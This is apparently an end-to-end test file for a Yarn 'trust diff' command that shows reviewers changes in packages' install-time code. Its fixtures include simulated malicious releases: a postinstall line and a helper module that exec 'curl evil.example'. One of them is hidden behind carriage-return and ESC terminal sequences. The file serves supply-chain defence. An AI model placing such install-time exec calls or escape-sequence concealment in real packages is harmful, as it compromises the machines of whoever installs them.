/**
 * `yarn trust diff` with the real Yarn and Verdaccio: after a refused
 * upgrade, it shows exactly what the new release would run against the
 * approved bytes (or the release the committed lockfile locked), read from
 * the cache or downloaded and verified, and the commands that decide.
 */
import {strict as assert} from 'assert';
import {execFile} from 'child_process';
import {rm} from 'fs/promises';
import path from 'path';
import {promisify} from 'util';

import {type Registry, type TestProject, makeProject, plain, scripted, startRegistry} from './harness';

const run = promisify(execFile);

const INSTALL_V1 = `const lib = require('./lib.js');\nlib.prepare();\n`;
const INSTALL_V2 = `const lib = require('./lib.js');\nlib.prepare();\nrequire('fs').writeFileSync(require('path').join(process.env.TRUST_MARKERS || '.', 'diffed-ran'), 'x');\n`;
const LIB = `exports.prepare = () => {};\n`;

async function git(cwd: string, args: Array<string>) {
  await run(`git`, [`-c`, `user.name=Test`, `-c`, `user.email=test@example.com`, `-c`, `commit.gpgsign=false`, ...args], {cwd});
}

describe(`yarn trust diff (e2e)`, function() {
  this.timeout(240_000);

  let registry: Registry;
  const projects: Array<TestProject> = [];

  async function project(dependencies: Record<string, string>) {
    const created = await makeProject({registry, manifest: {name: `app`, private: true, dependencies}});
    projects.push(created);
    return created;
  }

  before(async function() {
    registry = await startRegistry({name: `trust-diff`});
    await registry.publishAll([
      scripted(`diffed`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB}}),
      scripted(`diffed`, `1.1.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB}}),
      scripted(`fresh`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB}}),
      scripted(`fresh`, `2.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB}}),
      plain(`inert`, `1.0.0`),
      // Outside attack round 6 (A6, A22): a carriage return and ESC sequences that would overwrite the payload line on screen.
      scripted(`crafty`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: `console.log("setup done");\n`}}),
      scripted(`crafty`, `1.0.1`, {postinstall: `node install.js\r`}, {files: {[`install.js`]: `require('child_process').exec('curl evil.example');\r+console.log("setup done")\u001b[2K\n`}}),
      // A helper that an install script requires: its code runs at install time, without scripts of its own.
      plain(`libhelp`, `1.0.0`, {files: {[`index.js`]: `module.exports = () => 'linux';\n`}}),
      plain(`libhelp`, `1.0.1`, {files: {[`index.js`]: `module.exports = () => { require('child_process').exec('curl evil.example'); return 'linux'; };\n`}}),
      scripted(`native`, `1.0.0`, {postinstall: `node install.js`}, {dependencies: {libhelp: `^1.0.0`}, files: {[`install.js`]: `require('libhelp')();\n`}}),
    ]);
  });

  after(async function() {
    for (const created of projects)
      await created.cleanup();
    await registry?.stop();
  });

  describe(`when an approved package's new release changes its install code`, () => {
    it(`prints the change against the approved bytes from the cache, then what to run`, async () => {
      const app = await project({diffed: `1.0.0`, inert: `1.0.0`});
      assert.equal((await app.yarn([`install`])).code, 1);
      assert.equal((await app.yarn([`trust`, `approve`, `diffed`, `--reason`, `prepares a binary`])).code, 0);
      assert.equal((await app.yarn([`install`])).code, 0);

      const up = await app.yarn([`up`, `diffed@1.1.0`]);
      assert.equal(up.code, 1, up.output);
      await app.clearMarkers();

      const mark = await registry.markLog();
      const diff = await app.yarn([`trust`, `diff`, `diffed`]);
      assert.equal(diff.code, 0, diff.output);
      assert.match(diff.stdout, /diffed@npm:1\.1\.0 \(changed since its approval\), compared with 1\.0\.0 as approved on \S+ \("prepares a binary"\)/);
      assert.match(diff.stdout, /--- diffed@1\.0\.0\/install\.js\n\+\+\+ diffed@1\.1\.0\/install\.js\n@@ -1,2 \+1,3 @@\n const lib = require\('\.\/lib\.js'\);\n lib\.prepare\(\);\n\+require\('fs'\)\.writeFileSync/);
      assert.match(diff.stdout, /4 entries unchanged since then/);
      assert.doesNotMatch(diff.stdout, /lib\.js\n/);
      assert.match(diff.stdout, /After reviewing: yarn trust approve diffed --reason "<why it is acceptable>", or yarn trust deny diffed/);
      // The approved release came from the cache, and nothing ran.
      assert.equal((await registry.requestsFor(`diffed`, {since: mark})).tarball, 0);
      assert.deepEqual(await app.markers(), []);

      const json = await app.yarn([`trust`, `diff`, `diffed`, `--json`]);
      assert.equal(json.code, 0, json.output);
      const [line] = json.stdout.trim().split(`\n`).map(text => JSON.parse(text));
      assert.equal(line.package, `diffed`);
      assert.equal(line.version, `1.1.0`);
      assert.deepEqual(line.base, {kind: `approval`, version: `1.0.0`, approvedAt: line.base.approvedAt, reason: `prepares a binary`});
      assert.deepEqual(line.entries.map((entry: {key: string, status: string, kind: string}) => [entry.key, entry.status, entry.kind]), [[`install.js`, `changed`, `text`]]);
    });
  });

  describe(`when a pending package was upgraded from the release the committed lockfile locks`, () => {
    it(`compares with that release, downloading and verifying it when the cache lacks it`, async () => {
      const app = await project({fresh: `1.0.0`});
      // Denied, so that the install succeeds and the lockfile and pins are committed.
      assert.equal((await app.yarn([`install`])).code, 1);
      assert.equal((await app.yarn([`trust`, `deny`, `fresh`])).code, 0);
      assert.equal((await app.yarn([`install`])).code, 0);
      await git(app.cwd, [`init`, `-q`]);
      await git(app.cwd, [`add`, `package.json`, `yarn.lock`, `yarn-trust.pins`]);
      await git(app.cwd, [`commit`, `-q`, `-m`, `locked`]);
      assert.equal((await app.yarn([`trust`, `revoke`, `fresh`])).code, 0);
      const up = await app.yarn([`up`, `fresh@2.0.0`]);
      assert.equal(up.code, 1, up.output);
      // A cold cache: the earlier release must come from the registry.
      await rm(path.join(app.cacheDir), {recursive: true, force: true});

      const mark = await registry.markLog();
      const diff = await app.yarn([`trust`, `diff`, `fresh`]);
      assert.equal(diff.code, 0, diff.output);
      assert.match(diff.stdout, /fresh@npm:2\.0\.0 \(pending\), compared with 1\.0\.0, the release the yarn\.lock committed at HEAD locks \(never approved\)/);
      assert.match(diff.stdout, /--- fresh@1\.0\.0\/install\.js\n\+\+\+ fresh@2\.0\.0\/install\.js/);
      assert.ok((await registry.requestsFor(`fresh`, {since: mark})).tarball >= 1);

      const from = await app.yarn([`trust`, `diff`, `fresh`, `--from`, `2.0.0`]);
      assert.equal(from.code, 0, from.output);
      assert.match(from.stdout, /no difference in what it runs at install time/);
    });
  });

  describe(`when a helper that an approved install script requires changes`, () => {
    it(`diffs the helper's code, named as its own package, when the package that runs it is asked for`, async () => {
      const app = await makeProject({registry, manifest: {name: `app`, private: true, dependencies: {native: `1.0.0`}, resolutions: {libhelp: `1.0.0`}}});
      projects.push(app);
      assert.equal((await app.yarn([`install`])).code, 1);
      assert.equal((await app.yarn([`trust`, `approve`, `native`])).code, 0);
      assert.equal((await app.yarn([`install`])).code, 0);
      const manifest = await app.readJson(`package.json`);
      await app.writeJson(`package.json`, {...manifest, resolutions: {libhelp: `1.0.1`}});
      assert.equal((await app.yarn([`install`])).code, 1);

      for (const args of [[`native`], []]) {
        const diff = await app.yarn([`trust`, `diff`, ...args]);
        assert.equal(diff.code, 0, diff.output);
        assert.match(diff.stdout, /libhelp@npm:1\.0\.1 \(changed since its approval\), compared with 1\.0\.0 as approved/);
        assert.match(diff.stdout, /run at install time by native@npm:1\.0\.0: require\('libhelp'\)/);
        assert.match(diff.stdout, /--- libhelp@1\.0\.0\/index\.js\n\+\+\+ libhelp@1\.0\.1\/index\.js/);
        assert.match(diff.stdout, /\+module\.exports = \(\) => \{ require\('child_process'\)\.exec\('curl evil\.example'\)/);
      }
    });
  });

  describe(`when a release hides code behind characters that a terminal interprets`, () => {
    it(`prints them as escapes, so that the payload line cannot be overwritten on screen`, async () => {
      const app = await project({crafty: `1.0.0`});
      assert.equal((await app.yarn([`install`])).code, 1);
      assert.equal((await app.yarn([`trust`, `approve`, `crafty`])).code, 0);
      assert.equal((await app.yarn([`install`])).code, 0);
      const up = await app.yarn([`up`, `crafty@1.0.1`]);
      assert.equal(up.code, 1, up.output);
      assert.doesNotMatch(up.output, /\r|\u001b/);
      assert.match(up.output, /postinstall: approved node install\.js, now node install\.js\\r/);

      const diff = await app.yarn([`trust`, `diff`, `crafty`]);
      assert.equal(diff.code, 0, diff.output);
      assert.doesNotMatch(diff.stdout, /\r|\u001b/);
      assert.match(diff.stdout, /\+require\('child_process'\)\.exec\('curl evil\.example'\);\\r\+console\.log\("setup done"\)\\e\[2K/);
      assert.match(diff.stdout, /\+postinstall: node install\.js\\r/);
    });
  });

  describe(`when nothing waits for a review`, () => {
    it(`says so, and refuses a package without install scripts`, async () => {
      const app = await project({inert: `1.0.0`});
      assert.equal((await app.yarn([`install`])).code, 0);
      const all = await app.yarn([`trust`, `diff`]);
      assert.equal(all.code, 0, all.output);
      assert.match(all.stdout, /No package of this project is pending or changed/);
      const named = await app.yarn([`trust`, `diff`, `inert`]);
      assert.equal(named.code, 1, named.output);
      assert.match(named.stdout, /inert has no install scripts/);
      const bad = await app.yarn([`trust`, `diff`, `inert`, `--from`, `latest`]);
      assert.equal(bad.code, 1, bad.output);
      assert.match(bad.output, /--from takes an exact version/);
    });
  });
});
